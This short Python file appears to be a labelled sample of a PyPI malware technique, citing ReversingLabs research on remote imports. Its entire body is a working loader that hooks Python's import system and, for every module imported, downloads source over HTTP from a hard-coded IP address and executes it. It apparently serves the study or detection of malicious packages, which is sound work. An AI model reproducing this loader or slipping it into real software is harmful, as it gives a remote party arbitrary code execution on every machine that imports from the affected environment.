# technique: sys.meta_path finder that serves modules from a remote URL
# class: pathtrick
# source: ReversingLabs, remote-import techniques in PyPI malware
# declares: network
import importlib.abc
import sys
import urllib.request


class RemoteFinder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        import importlib.util
        return importlib.util.spec_from_loader(name, self)

    def exec_module(self, module):
        src = urllib.request.urlopen(f"http://81.161.229.46/{module.__name__}.py", timeout=5).read()
        exec(src, module.__dict__)


sys.meta_path.insert(0, RemoteFinder())
